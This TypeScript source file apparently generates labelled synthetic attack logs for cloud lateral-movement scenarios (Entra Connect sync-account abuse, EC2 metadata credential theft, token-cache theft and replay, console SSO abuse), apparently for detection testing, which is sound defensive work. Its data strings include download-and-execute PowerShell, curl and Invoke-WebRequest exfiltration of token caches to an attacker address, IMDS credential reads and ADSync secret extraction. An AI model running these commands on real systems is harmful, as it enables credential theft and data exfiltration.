/**
 * Attack scenarios (T1021.007 and the token theft that feeds it), each on the attack day with a
 * timeline and labels. Variants change tools, spellings and paths so that no rule can key on one
 * string; names, hosts and networks come from the seed.
 */
import type { Rng } from './rng.js';
import type { Device, User, Network } from './org.js';
import { attackerIp as attackerAt } from './attacker.js';
import { accountOf, fakeGuid, type ProcAccount } from './rows.js';
import { APPS, RESOURCES, type App } from './apps.js';
import { type SimContext, MINUTE, HOUR, attackTime, psUa, azCliUa, awsCliUa, boto3Ua, winUa, ipOf } from './context.js';
import { Story, type Scenario } from './scenario.js';
import { azProcess, gcloudProcess, psProcess, encodePs } from './tools.js';
import { claim, ssoApp, ssoIdentity } from './benign.js';
import { instanceIdentity } from './background.js';
import { IDENTITY_ATTACKS } from './attacks-identity.js';
import { awsFederationPersistence } from './attacks-aws.js';

/** The attacker's rented server abroad (real hosting providers' address space). */
function attackerIp(ctx: SimContext, rng: Rng): { ip: string; net: Network } { return attackerAt(ctx, rng, 'abroad', 'vps'); }
function linuxUa(ctx: SimContext): string { return `Mozilla/5.0 (X11; Linux x86_64; rv:${ctx.v.firefox}) Gecko/20100101 Firefox/${ctx.v.firefox}`; }

const apt29: Scenario = {
  name: 'apt29-synced-admin', kind: 'attack', class: 'cloud-cli-unusual-host', variants: ['graph-powershell', 'azuread-module', 'msonline-encoded', 'devicecode-proxy'],
  summary: 'Synced privileged account used from an odd workstation via Graph / Azure AD PowerShell, then role and credential changes',
  generate(ctx, variant) {
    const s = new Story();
    const { org, rows } = ctx;
    const rng = ctx.rng.fork('apt29');
    s.technique = ['T1021.007', 'T1078.002', 'T1098.001', 'T1098.003'];
    const victim = claim(ctx, org.syncedAdmins, 1, rng)[0] ?? org.syncedAdmins[0]!;
    const oddWs = rng.pick(org.workstations.filter((d) => d.os === 'Windows' && d.owner && d.owner.id !== victim.id && !d.owner.groups.includes('it')));
    const acct = accountOf(org, victim);
    const t0 = attackTime(ctx, rng.pick([1.2, 2.5, 21.5, 23, 13.2])) + rng.int(0, 3_599_999);
    const pivot = rng.pick(org.servers);
    const remote = { ip: pivot.privateIp, device: pivot.name };
    s.description = `${victim.upn} (synced from on-prem, privileged in Entra) is used on ${oddWs.name}, a workstation it never uses, through ${variant}; it grants a role and adds credentials to an application.`;
    s.accounts.add(victim.upn); s.accounts.add(`${org.netbios}\\${victim.sam}`); s.devices.add(oddWs.fqdn);
    let ip = oddWs.office.egress[0]!;
    let app: App = APPS.graphCli, resource: App = RESOURCES.graph, core = false, ua = psUa(ctx, false), protocol: string | undefined;
    s.add(rows.process({ t: t0 - 4 * MINUTE, device: oddWs, account: acct, file: 'rdpclip.exe', folder: 'C:\\Windows\\System32', cmd: 'rdpclip', parent: { file: 'svchost.exe' }, remoteSession: remote }), `interactive RDP logon to ${oddWs.name} as ${victim.sam} from ${pivot.name}`);
    s.add(rows.process({ t: t0 - 3 * MINUTE, device: oddWs, account: acct, file: 'nltest.exe', folder: 'C:\\Windows\\System32', cmd: `nltest /domain_trusts /all_trusts`, parent: { file: 'cmd.exe' }, remoteSession: remote }));
    switch (variant) {
      case 'azuread-module':
        app = APPS.aadPowerShell; resource = RESOURCES.aadGraph;
        s.add(psProcess(ctx, oddWs, acct, t0, `Import-Module AzureAD; Connect-AzureAD -AccountId ${victim.upn}`, { remote, style: 'command' }), 'Connect-AzureAD (Azure AD PowerShell module)');
        break;
      case 'msonline-encoded': {
        app = APPS.aadPowerShell; resource = RESOURCES.aadGraph;
        const script = `$c=Get-Credential ${victim.upn};Import-Module MSOnline;Connect-MsolService -Credential $c;Get-MsolRole`;
        s.add(rows.process({ t: t0, device: oddWs, account: acct, file: 'powershell.exe', folder: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0', cmd: `powershell.exe -NoP -W Hidden -EncodedCommand ${encodePs(script)}`, parent: { file: 'cmd.exe' }, remoteSession: remote }), 'encoded PowerShell: Connect-MsolService');
        break;
      }
      case 'devicecode-proxy': {
        core = true; ua = psUa(ctx, true); protocol = 'deviceCode';
        const a = attackerIp(ctx, rng); ip = a.ip;
        s.add(psProcess(ctx, oddWs, acct, t0, 'connect-mggraph -usedevicecode -scopes Directory.AccessAsUser.All', { core: true, style: 'c', remote }), 'Connect-MgGraph with device code; code redeemed from attacker infrastructure');
        break;
      }
      default:
        core = rng.chance(0.5); ua = psUa(ctx, core);
        s.add(psProcess(ctx, oddWs, acct, t0, `Install-Module Microsoft.Graph.Identity.DirectoryManagement -Scope CurrentUser -Force; Connect-MgGraph -Scopes 'RoleManagement.ReadWrite.Directory','Application.ReadWrite.All' -NoWelcome`, { core, remote }), 'Connect-MgGraph from an unusual workstation');
    }
    s.ips.add(ip);
    s.add(rows.signin({ t: t0 + 35_000, user: victim, app, resource, ip, interactive: true, ua, device: variant === 'devicecode-proxy' ? undefined : oddWs, mfa: false, protocol, clientApp: 'Mobile Apps and Desktop clients' }), `sign-in to ${app.name} from ${ip}`);
    for (let k = 1; k <= 3; k++) s.add(rows.signin({ t: t0 + k * rng.int(2, 6) * MINUTE, user: victim, app, resource, ip, interactive: false, ua, device: variant === 'devicecode-proxy' ? undefined : oddWs }));
    const accomplice = rng.pick(org.people.filter((u) => !u.groups.includes('it') && u.id !== victim.id));
    const role = rng.pick(['Global Administrator', 'Privileged Role Administrator', 'Application Administrator', 'Cloud Application Administrator']);
    const tRole = t0 + rng.int(6, 15) * MINUTE;
    s.add(rows.audit({ t: tRole, op: 'Add member to role', category: 'RoleManagement', opType: 'Assign', initiator: { user: victim, ip }, ua, targets: [{ id: accomplice.id, displayName: null, type: 'User', userPrincipalName: accomplice.upn, modifiedProperties: [{ displayName: 'Role.DisplayName', oldValue: null, newValue: `"${role}"` }, { displayName: 'Role.TemplateId', oldValue: null, newValue: `"${fakeGuid(role)}"` }] }] }), `${role} granted to ${accomplice.upn}`);
    const appName = rng.pick(['Mail Archiver', 'Contoso Reporting', 'Legacy SSO', 'Teams Bot Connector', 'DataSync Service', 'Backup Orchestrator']);
    const appId = rng.guid();
    const credOp = rng.pick(['Add service principal credentials', 'Update application – Certificates and secrets management ']);
    s.add(rows.audit({ t: tRole + rng.int(2, 9) * MINUTE, op: credOp, category: 'ApplicationManagement', opType: credOp.startsWith('Add') ? 'Add' : 'Update', initiator: { user: victim, ip }, ua, targets: [{ id: appId, displayName: appName, type: credOp.startsWith('Add') ? 'ServicePrincipal' : 'Application', modifiedProperties: [{ displayName: 'KeyDescription', oldValue: '[]', newValue: `["[KeyIdentifier=${rng.guid()},KeyType=${rng.pick(['Password', 'AsymmetricX509Cert'])},KeyUsage=Verify,DisplayName=]"]` }] }] }), `credentials added to ${appName}`);
    s.cloud.add(victim.upn); s.accounts.add(accomplice.upn);
    return s;
  },
};

const storm0501: Scenario = {
  name: 'storm0501-entra-connect', kind: 'attack', class: 'sync-account', variants: ['aadinternals', 'adsync-decrypt', 'federation-backdoor'],
  summary: 'Entra Connect server compromised; Sync_ account used from elsewhere with an unusual app; password resets and role grants',
  generate(ctx, variant) {
    const s = new Story();
    const { org, rows } = ctx;
    const rng = ctx.rng.fork('storm0501');
    s.technique = ['T1021.007', 'T1078.004', 'T1098.003', 'T1484.002'];
    const sync = org.syncServer;
    const admin = org.itStaff[org.itStaff.length - 1]!;
    const acct: ProcAccount = accountOf(org, admin.adminAccount ?? admin);
    const pivot = rng.pick(org.servers);
    const remote = { ip: pivot.privateIp, device: pivot.name };
    const t0 = attackTime(ctx, rng.pick([3.3, 4.1, 19.6, 0.6])) + rng.int(0, 1_799_999);
    const { ip } = attackerIp(ctx, rng);
    s.description = `The Entra Connect server ${sync.name} is taken over; the ${org.syncAccount.upn.split('@')[0]} credentials are extracted and used from ${ip}, then passwords are reset and roles granted.`;
    s.devices.add(sync.fqdn); s.accounts.add(org.syncAccount.upn); s.accounts.add(acct.name); s.ips.add(ip); s.cloud.add(org.syncAccount.upn);
    const BIN = 'C:\\Program Files\\Microsoft Azure AD Sync\\Bin';
    if (variant === 'adsync-decrypt') {
      s.add(rows.process({ t: t0, device: sync, account: acct, file: 'SqlLocalDB.exe', folder: 'C:\\Program Files\\Microsoft SQL Server\\150\\Tools\\Binn', cmd: 'SqlLocalDB.exe info ADSync2019', parent: { file: 'cmd.exe' }, remoteSession: remote, integrity: 'High' }));
      s.add(rows.process({ t: t0 + 40_000, device: sync, account: acct, file: 'sqlcmd.exe', folder: 'C:\\Program Files\\Microsoft SQL Server\\Client SDK\\ODBC\\170\\Tools\\Binn', cmd: 'sqlcmd -S "(localdb)\\.\\ADSync2019" -d ADSync -Q "SELECT private_configuration_xml, encrypted_configuration FROM mms_management_agent"', parent: { file: 'cmd.exe' }, remoteSession: remote, integrity: 'High' }), 'ADSync database read (connector credentials)');
      s.add(rows.process({ t: t0 + 95_000, device: sync, account: acct, file: 'adsyncdecrypt.exe', folder: 'C:\\Users\\Public\\Libraries', cmd: `C:\\Users\\Public\\Libraries\\adsyncdecrypt.exe "${BIN}\\mcrypt.dll"`, parent: { file: 'cmd.exe' }, remoteSession: remote, integrity: 'High', company: '' }), 'credential decryption with mcrypt.dll');
    } else {
      s.add(psProcess(ctx, sync, acct, t0, variant === 'federation-backdoor' ? 'iex (New-Object Net.WebClient).DownloadString(\'https://raw.example/AADInternals.ps1\'); Get-AADIntSyncCredentials | ConvertTo-Json' : 'Import-Module C:\\ProgramData\\AADInternals\\AADInternals.psd1; Get-AADIntSyncCredentials', { remote, integrity: 'High', style: 'c' }), 'sync account credentials extracted with AADInternals');
    }
    const syncUser = { id: org.syncAccount.id, upn: org.syncAccount.upn, displayName: org.syncAccount.displayName };
    const app = variant === 'aadinternals' ? rng.pick([APPS.aadPowerShell, APPS.graphCli]) : variant === 'adsync-decrypt' ? APPS.aadConnect : rng.pick([APPS.azurePowerShell, APPS.azurePortal]);
    const res = app === APPS.aadConnect || app === APPS.aadPowerShell ? RESOURCES.aadGraph : app === APPS.graphCli ? RESOURCES.graph : RESOURCES.arm;
    const ua = app === APPS.azurePortal ? winUa(ctx, 'chrome') : psUa(ctx, rng.chance(0.5));
    const t1 = t0 + rng.int(20, 70) * MINUTE;
    s.add(rows.signin({ t: t1, user: syncUser, app, resource: res, ip, interactive: true, ua, mfa: false, clientApp: app === APPS.azurePortal ? 'Browser' : 'Mobile Apps and Desktop clients' }), `${org.syncAccount.upn.split('@')[0]} signs in to ${app.name} from ${ip}`);
    s.add(rows.signin({ t: t1 + 4 * MINUTE, user: syncUser, app, resource: res, ip, interactive: false, ua }));
    const target = rng.pick(org.cloudAdmins.length ? org.cloudAdmins : org.syncedAdmins);
    s.accounts.add(target.upn);
    s.add(rows.audit({ t: t1 + rng.int(3, 8) * MINUTE, op: 'Reset user password', category: 'UserManagement', opType: 'Update', initiator: { user: syncUser, ip }, ua, targets: [{ id: target.id, displayName: null, type: 'User', userPrincipalName: target.upn, modifiedProperties: [] }] }), `password of ${target.upn} reset by the sync account`);
    const t2 = t1 + rng.int(10, 25) * MINUTE;
    if (variant === 'federation-backdoor') {
      const dom = `${rng.pick(['secure', 'login', 'auth', 'sso'])}-${org.company.slice(0, 6)}.${rng.pick(['com', 'net', 'org'])}`;
      s.add(rows.audit({ t: t2, op: 'Add unverified domain', category: 'DirectoryManagement', opType: 'Add', initiator: { user: target, ip }, ua, targets: [{ id: '', displayName: dom, type: 'Other', modifiedProperties: [] }] }));
      s.add(rows.audit({ t: t2 + 6 * MINUTE, op: 'Set federation settings on domain', category: 'DirectoryManagement', opType: 'Update', initiator: { user: target, ip }, ua, targets: [{ id: '', displayName: dom, type: 'Other', modifiedProperties: [{ displayName: 'IssuerUri', oldValue: null, newValue: `"http://${dom}/adfs/services/trust/"` }] }] }), `federation trust added for ${dom}`);
    } else {
      s.add(rows.audit({ t: t2, op: 'Add member to role', category: 'RoleManagement', opType: 'Assign', initiator: { user: target, ip }, ua, targets: [{ id: syncUser.id, displayName: null, type: 'User', userPrincipalName: org.syncAccount.upn, modifiedProperties: [{ displayName: 'Role.DisplayName', oldValue: null, newValue: '"Global Administrator"' }] }] }), 'Global Administrator granted');
    }
    s.add(rows.signin({ t: t2 - 3 * MINUTE, user: target, app: APPS.azurePortal, resource: RESOURCES.arm, ip, interactive: true, ua: winUa(ctx, 'chrome'), mfa: false, browser: 'Chrome' }), `${target.upn} used from ${ip} after the reset`);
    return s;
  },
};

const scatteredSpider: Scenario = {
  name: 'scattered-spider-ec2-creds', kind: 'attack', class: 'ec2-instance-creds', variants: ['imdsv1-curl', 'imdsv2-token', 'ipv6-python'],
  summary: 'EC2 instance-role credentials taken from IMDS and used from outside AWS: discovery, then console access',
  generate(ctx, variant) {
    const s = new Story();
    const { org, rows } = ctx;
    const rng = ctx.rng.fork('spider');
    s.technique = ['T1021.007', 'T1552.005', 'T1580', 'T1078.004'];
    const inst = rng.pick(org.aws.instances);
    const d: Device = inst.device;
    const user = rng.pick(['ec2-user', 'ubuntu', 'www-data', 'app']);
    const acct: ProcAccount = { name: user, domain: '', sid: '', upn: '', objectId: '' };
    const t0 = attackTime(ctx, rng.pick([10.5, 14.2, 16.7, 2.2])) + rng.int(0, 1_799_999);
    const { ip } = attackerIp(ctx, rng);
    s.description = `Instance-role credentials of ${inst.role} (instance ${inst.instanceId} on ${d.name}) are read from the metadata service and replayed from ${ip}; discovery calls, a console sign-in through the federation endpoint, and an access key for persistence.`;
    s.devices.add(d.fqdn); s.accounts.add(`${inst.roleId}:${inst.instanceId}`); s.accounts.add(`arn:aws:sts::${inst.accountId}:assumed-role/${inst.role}/${inst.instanceId}`); s.ips.add(ip); s.cloud.add(`arn:aws:iam::${inst.accountId}:role/${inst.role}`);
    const path = `latest/meta-data/iam/security-credentials/${inst.role}`;
    if (variant === 'imdsv2-token') {
      s.add(rows.process({ t: t0, device: d, account: acct, file: 'curl', folder: '/usr/bin', cmd: 'curl -s -X PUT http://169.254.169.254/latest/api/token -H "X-aws-ec2-metadata-token-ttl-seconds: 21600"', parent: { file: 'bash' } }));
      s.add(rows.process({ t: t0 + 3000, device: d, account: acct, file: 'curl', folder: '/usr/bin', cmd: `curl -s -H "X-aws-ec2-metadata-token: $TOKEN" http://169.254.169.254/${path}`, parent: { file: 'bash' } }), 'instance credentials read from IMDSv2');
    } else if (variant === 'ipv6-python') {
      s.add(rows.process({ t: t0, device: d, account: acct, file: 'python3', folder: '/usr/bin', cmd: `python3 -c "import urllib.request as u;print(u.urlopen('http://[fd00:ec2::254]/${path}').read().decode())"`, parent: { file: 'sh' } }), 'instance credentials read from the IPv6 metadata endpoint');
    } else {
      const wget = rng.chance(0.5);
      s.add(rows.process({ t: t0, device: d, account: acct, file: wget ? 'wget' : 'curl', folder: '/usr/bin', cmd: wget ? `wget -qO- http://169.254.169.254/${path}` : `curl http://169.254.169.254/${path}/`, parent: { file: 'bash' } }), 'instance credentials read from IMDS');
    }
    const ident = instanceIdentity(inst, t0 - rng.int(1, 5) * HOUR);
    const os = rng.pick(['Linux', 'macOS']);
    const tool = rng.pick(['cli', 'boto3']);
    const ua = (cmd: string) => tool === 'cli' ? awsCliUa(ctx, os, cmd) : boto3Ua(ctx).replace('os/linux', os === 'macOS' ? 'os/macos' : 'os/linux');
    let t = t0 + rng.int(8, 30) * MINUTE;
    const calls: [string, string, boolean, string?][] = [
      ['sts.amazonaws.com', 'GetCallerIdentity', true], ['s3.amazonaws.com', 'ListBuckets', true], ['iam.amazonaws.com', 'ListUsers', true, 'AccessDenied'],
      ['ec2.amazonaws.com', 'DescribeInstances', true], ['iam.amazonaws.com', 'ListRoles', true], ['iam.amazonaws.com', 'GetAccountAuthorizationDetails', true, 'AccessDenied'],
      ['secretsmanager.amazonaws.com', 'ListSecrets', true], ['ec2.amazonaws.com', 'DescribeSnapshots', true],
    ];
    let first = true;
    for (const [src, name, ro, err] of rng.sample(calls, rng.int(5, 8))) {
      s.add(rows.cloudtrail({ t, source: src, name, region: rng.pick([inst.region, 'us-east-1']), ip, ua: ua(`${src.split('.')[0]}.${name}`), readOnly: ro, recipient: inst.accountId, identity: ident, error: err ? { code: err, message: `User: ${ident.arn} is not authorized to perform: ${src.split('.')[0]}:${name}` } : undefined }), first ? `instance credentials used from ${ip} (${name})` : undefined);
      first = false;
      t += rng.int(10, 120) * 1000;
    }
    s.add(rows.cloudtrail({ t: t + 30_000, source: 'signin.amazonaws.com', name: 'GetSigninToken', type: 'AwsConsoleSignIn', region: 'us-east-1', ip, ua: linuxUa(ctx), readOnly: false, recipient: inst.accountId, identity: ident, response: { GetSigninToken: 'Success' }, additional: { MobileVersion: 'No', MFAUsed: 'No' } }), 'federation sign-in token from role credentials');
    s.add(rows.cloudtrail({ t: t + 45_000, source: 'signin.amazonaws.com', name: 'ConsoleLogin', type: 'AwsConsoleSignIn', region: 'us-east-1', ip, ua: linuxUa(ctx), readOnly: false, recipient: inst.accountId, identity: ident, response: { ConsoleLogin: 'Success' }, additional: { LoginTo: 'https://console.aws.amazon.com/console/home', MobileVersion: 'No', MFAUsed: 'No' } }), `AWS console sign-in as ${inst.role} from ${ip}`);
    const newUser = rng.pick(['backup-svc', 'support-ops', 'aws-health', 'ops-automation', 'monitor']);
    s.add(rows.cloudtrail({ t: t + 6 * MINUTE, source: 'iam.amazonaws.com', name: 'CreateUser', region: 'us-east-1', ip, ua: 'AWS Internal', readOnly: false, recipient: inst.accountId, identity: ident, request: { userName: newUser } }), `IAM user ${newUser} created`);
    s.add(rows.cloudtrail({ t: t + 7 * MINUTE, source: 'iam.amazonaws.com', name: 'CreateAccessKey', region: 'us-east-1', ip, ua: 'AWS Internal', readOnly: false, recipient: inst.accountId, identity: ident, request: { userName: newUser } }));
    s.add(rows.cloudtrail({ t: t + 8 * MINUTE, source: 'iam.amazonaws.com', name: 'AttachUserPolicy', region: 'us-east-1', ip, ua: 'AWS Internal', readOnly: false, recipient: inst.accountId, identity: ident, request: { userName: newUser, policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' } }));
    return s;
  },
};

const tokenTheft: Scenario = {
  name: 'token-theft-replay', kind: 'attack', class: 'session-replay', variantClass: { 'gcloud-token': 'gcp-keys' }, variants: ['az-get-access-token', 'msal-cache-copy', 'gcloud-token'],
  summary: 'Access tokens taken on a DevOps workstation (az/gcloud token commands, token caches) and replayed from a new country',
  generate(ctx, variant) {
    const s = new Story();
    const { org, rows } = ctx;
    const rng = ctx.rng.fork('token');
    s.technique = ['T1528', 'T1550.001', 'T1021.007'];
    const pool = variant === 'gcloud-token' ? org.devops.filter((u) => u.gcp) : org.devops;
    const victim = claim(ctx, pool.length ? pool : org.devops, 1, rng)[0] ?? org.devops[0]!;
    const d = victim.device!;
    const acct = accountOf(org, victim);
    const t0 = attackTime(ctx, victim.workStart + 1.5 + rng.next() * 4) + rng.int(0, 999);
    const { ip, net } = attackerIp(ctx, rng);
    const parent = rng.pick(['WINWORD.EXE', 'EXCEL.EXE', 'mshta.exe', 'wscript.exe']);
    s.description = `On ${d.name}, a process started from ${parent} collects ${victim.upn}'s cloud tokens (${variant}); they are replayed from ${net.city.city}, ${net.city.country} minutes after the user's own sign-in.`;
    s.accounts.add(victim.upn); s.accounts.add(`${org.netbios}\\${victim.sam}`); s.devices.add(d.fqdn); s.ips.add(ip); s.cloud.add(victim.upn);
    const homeIp = ipOf(ctx, victim, t0, rng);
    s.add(rows.signin({ t: t0 - 12 * MINUTE, user: victim, app: APPS.officeHome, resource: RESOURCES.officePortal, ip: homeIp, interactive: true, ua: winUa(ctx, 'edge'), device: d, mfa: true }));
    const win = d.os === 'Windows';
    const home = win ? `C:\\Users\\${victim.sam}` : d.os === 'macOS' ? `/Users/${victim.sam}` : `/home/${victim.sam}`;
    if (variant === 'az-get-access-token') {
      for (const e of azProcess(ctx, d, acct, t0, rng.pick(['account get-access-token --resource https://graph.microsoft.com', 'account get-access-token --resource-type arm -o json', 'ACCOUNT GET-ACCESS-TOKEN --query accessToken']), win ? 'cmd.exe' : 'bash', win ? `cmd.exe /c start /b ${parent}` : undefined)) s.add(e, 'az account get-access-token under an unusual parent');
    } else if (variant === 'msal-cache-copy') {
      if (win) s.add(rows.process({ t: t0, device: d, account: acct, file: 'cmd.exe', folder: 'C:\\Windows\\System32', cmd: rng.pick([`cmd.exe /c copy /y "${home}\\.azure\\msal_token_cache.bin" "%TEMP%\\mtc.bin"`, `cmd.exe /c type ${home}\\.Azure\\TokenCache.dat > %PUBLIC%\\t.dat`, `cmd /c copy ${home}\\.azure\\accessTokens.json C:\\ProgramData\\at.json`]), parent: { file: parent } }), 'token cache copied');
      else s.add(rows.process({ t: t0, device: d, account: acct, file: 'cp', folder: '/bin', cmd: `cp ${home}/.azure/msal_token_cache.json /tmp/.c`, parent: { file: 'sh' } }), 'token cache copied');
      s.add(win ? psProcess(ctx, d, acct, t0 + 20_000, `Invoke-WebRequest -Uri https://${ip}/u -Method POST -InFile $env:TEMP\\mtc.bin`, { parent: 'cmd.exe', style: 'c' }) : rows.process({ t: t0 + 20_000, device: d, account: acct, file: 'curl', folder: '/usr/bin', cmd: `curl -s -F f=@/tmp/.c https://${ip}/u`, parent: { file: 'sh' } }), 'cache exfiltrated');
    } else {
      s.add(...[rows.process({ t: t0, device: d, account: acct, file: win ? 'cmd.exe' : 'sqlite3', folder: win ? 'C:\\Windows\\System32' : '/usr/bin', cmd: win ? `cmd.exe /c type "${home}\\AppData\\Roaming\\gcloud\\application_default_credentials.json"` : `sqlite3 ${home}/.config/gcloud/access_tokens.db "select * from access_tokens"`, parent: { file: parent } })], );
      for (const e of gcloudProcess(ctx, d, acct, t0 + 15_000, rng.pick(['auth print-access-token', 'auth application-default print-access-token', 'AUTH PRINT-ACCESS-TOKEN --quiet']), win ? 'cmd.exe' : 'sh')) s.add(e, 'gcloud access token printed');
    }
    // Replay.
    let t = t0 + rng.int(4, 25) * MINUTE;
    if (variant === 'gcloud-token') {
      const project = rng.pick(org.gcp.projects);
      const ua = rng.pick(['curl/8.5.0', 'python-requests/2.31.0', `google-api-python-client/2.108.0 gl-python/${ctx.v.python}`]);
      const calls: [string, string, string, string][] = [
        ['cloudresourcemanager.googleapis.com', 'GetIamPolicy', 'resourcemanager.projects.getIamPolicy', `projects/${project}`],
        ['storage.googleapis.com', 'storage.buckets.list', 'storage.buckets.list', `projects/_/buckets`],
        ['compute.googleapis.com', 'v1.compute.instances.list', 'compute.instances.list', `projects/${project}/zones/${org.gcp.region}-a`],
        ['iam.googleapis.com', 'google.iam.admin.v1.CreateServiceAccountKey', 'iam.serviceAccountKeys.create', `projects/-/serviceAccounts/${org.gcp.serviceAccounts[0]}`],
      ];
      let first = true;
      for (const [svc, method, perm, res] of calls) {
        s.add(rows.gcp({ t, service: svc, method, principal: victim.upn, project, resource: res, resourceType: 'project', ip, ua, permission: perm }), first ? `token replayed against GCP from ${ip}` : method.includes('CreateServiceAccountKey') ? 'service account key created' : undefined);
        first = false;
        t += rng.int(20, 200) * 1000;
      }
    } else {
      const resources = [RESOURCES.arm, RESOURCES.graph, { id: 'cfa8b339-82a2-471a-a3c9-0fc0be7a4093', name: 'Azure Key Vault' }];
      let first = true;
      for (const res of resources) {
        s.add(rows.signin({ t, user: victim, app: APPS.azureCli, resource: res, ip, interactive: false, ua: azCliUa(ctx, undefined).replace(/\(Windows[^)]*\)/, '(Linux-6.5.0-x86_64-with-glibc2.35)'), incomingToken: 'refreshToken' }), first ? `refresh token replayed from ${net.city.city}, ${net.city.country}` : undefined);
        first = false;
        t += rng.int(1, 6) * MINUTE;
      }
    }
    return s;
  },
};

const federatedConsole: Scenario = {
  name: 'federated-console-sso', kind: 'attack', class: 'aws-federation-persistence', variantClass: { 'gcp-saml': 'gcp-keys' }, variants: ['aws-identity-center', 'gcp-saml', 'mfa-fatigue-aws'],
  summary: 'Stolen synced credentials used for single sign-on into a cloud web console (AWS IAM Identity Center / Google Cloud)',
  generate(ctx, variant) {
    const s = new Story();
    const { org, rows } = ctx;
    const rng = ctx.rng.fork('fedconsole');
    s.technique = ['T1021.007', 'T1078.004', 'T1606.002'];
    const pool = org.devops.filter((u) => variant === 'gcp-saml' ? u.gcp : !!u.awsPermissionSet);
    const victim = claim(ctx, pool.length ? pool : org.devops, 1, rng)[0] ?? org.devops[org.devops.length - 1]!;
    const t0 = attackTime(ctx, rng.pick([0.4, 5.5, 18.8, 22.1])) + rng.int(0, 1_799_999);
    const { ip, net } = attackerIp(ctx, rng);
    const cloud = variant === 'gcp-saml' ? 'gcp' : 'aws';
    const app = ssoApp(ctx, cloud);
    s.description = `${victim.upn}'s synced password is used from ${net.city.city}, ${net.city.country} to sign in to ${app.name} and open the ${cloud.toUpperCase()} console; reconnaissance and a persistence step follow.`;
    s.accounts.add(victim.upn); s.ips.add(ip); s.cloud.add(victim.upn);
    const ua = rng.pick([linuxUa(ctx), winUa(ctx, 'chrome'), `Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15`]);
    let t = t0;
    if (variant === 'mfa-fatigue-aws') {
      for (let k = 0; k < rng.int(3, 6); k++) { s.add(rows.signin({ t, user: victim, app, resource: app, ip, interactive: true, ua, result: '500121', protocol: 'saml20' }), k === 0 ? 'repeated MFA prompts denied' : undefined); t += rng.int(40, 180) * 1000; }
    }
    s.add(rows.signin({ t, user: victim, app, resource: app, ip, interactive: true, ua, mfa: variant === 'mfa-fatigue-aws', protocol: 'saml20', browser: ua.includes('Firefox') ? 'Firefox' : ua.includes('Safari/605') ? 'Safari' : 'Chrome' }), `SSO sign-in to ${app.name} from ${ip}`);
    t += rng.int(30, 90) * 1000;
    if (cloud === 'aws') {
      const acctId = org.aws.accounts[0]!.id;
      const permSet = rng.pick(['AdministratorAccess', victim.awsPermissionSet ?? 'PowerUserAccess']);
      const ident = ssoIdentity(ctx, victim, permSet, t, acctId);
      s.cloud.add(ident.arn);
      s.add(rows.cloudtrail({ t, source: 'signin.amazonaws.com', name: 'ConsoleLogin', type: 'AwsConsoleSignIn', region: org.aws.homeRegion, ip, ua, readOnly: false, recipient: acctId, identity: ident, response: { ConsoleLogin: 'Success' }, additional: { LoginTo: `https://${org.aws.homeRegion}.console.aws.amazon.com/console/home`, MobileVersion: 'No', MFAUsed: 'No' } }), `AWS console via ${permSet}`);
      for (const [src, name, ro] of [['iam.amazonaws.com', 'ListUsers', true], ['ec2.amazonaws.com', 'DescribeInstances', true], ['secretsmanager.amazonaws.com', 'GetSecretValue', true], ['iam.amazonaws.com', 'CreateAccessKey', false]] as const) {
        t += rng.int(30, 300) * 1000;
        s.add(rows.cloudtrail({ t, source: src, name, region: org.aws.homeRegion, ip, ua: 'AWS Internal', readOnly: ro, recipient: acctId, identity: ident, request: name === 'CreateAccessKey' ? { userName: org.monitor.awsUser } : undefined }), name === 'CreateAccessKey' ? `access key created for ${org.monitor.awsUser}` : undefined);
      }
    } else {
      const project = rng.pick(org.gcp.projects);
      const cua = `${ua},gzip(gfe),gzip(gfe)`;
      for (const [svc, method, perm] of [['cloudresourcemanager.googleapis.com', 'GetIamPolicy', 'resourcemanager.projects.getIamPolicy'], ['compute.googleapis.com', 'v1.compute.instances.list', 'compute.instances.list'], ['storage.googleapis.com', 'storage.buckets.list', 'storage.buckets.list'], ['cloudresourcemanager.googleapis.com', 'SetIamPolicy', 'resourcemanager.projects.setIamPolicy']] as const) {
        s.add(rows.gcp({ t, service: svc, method, principal: victim.upn, project, resource: `projects/${project}`, resourceType: 'project', ip, ua: cua, permission: perm, request: method === 'SetIamPolicy' ? { policy: { bindings: [{ role: 'roles/owner', members: [`user:${victim.upn}`] }] } } : undefined }), method === 'GetIamPolicy' ? `Google Cloud console used from ${ip}` : method === 'SetIamPolicy' ? 'IAM policy changed' : undefined);
        t += rng.int(30, 300) * 1000;
      }
    }
    return s;
  },
};

export const ATTACKS: readonly Scenario[] = [apt29, storm0501, scatteredSpider, tokenTheft, federatedConsole, ...IDENTITY_ATTACKS, awsFederationPersistence];
